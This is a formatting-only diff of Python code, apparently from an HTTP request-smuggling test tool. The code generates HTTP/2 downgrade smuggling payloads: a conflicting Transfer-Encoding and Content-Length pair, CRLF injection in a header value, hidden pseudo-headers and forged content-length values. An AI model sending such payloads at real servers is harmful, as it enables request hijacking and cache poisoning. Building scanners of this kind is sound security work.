@@ -96,19 +96,24 @@ def payloads() -> Iterator[Payload]:
     yield _downgrade(
         "te-and-length",
         lambda attack: [
-            Headers([
-                *begin(attack),
-                (b"transfer-encoding", b"chunked"),
-                (b"content-length", b"%d" % len(b"0\r\n\r\n" + attack.inner)),
-            ]),
+            Headers(
+                [
+                    *begin(attack),
+                    (b"transfer-encoding", b"chunked"),
+                    (b"content-length", b"%d" % len(b"0\r\n\r\n" + attack.inner)),
+                ]
+            ),
             Data(b"0\r\n\r\n" + attack.inner),
         ],
     )
     yield _downgrade(
-        "value-request", lambda attack: [Headers([*begin(attack, b"GET"), (b"x", b"y\r\n\r\n" + attack.inner)], end=True)]
+        "value-request",
+        lambda attack: [Headers([*begin(attack, b"GET"), (b"x", b"y\r\n\r\n" + attack.inner)], end=True)],
     )
     for name in PSEUDO:
-        yield _downgrade(f"hidden-{name}", lambda attack, name=name: [Headers(_pseudo(attack)[name], end=True)], forge_only=True)
+        yield _downgrade(
+            f"hidden-{name}", lambda attack, name=name: [Headers(_pseudo(attack)[name], end=True)], forge_only=True
+        )
     for length in (b"", b"1"):
         more = [(b"content-length", length)] if length else []
         yield _downgrade(
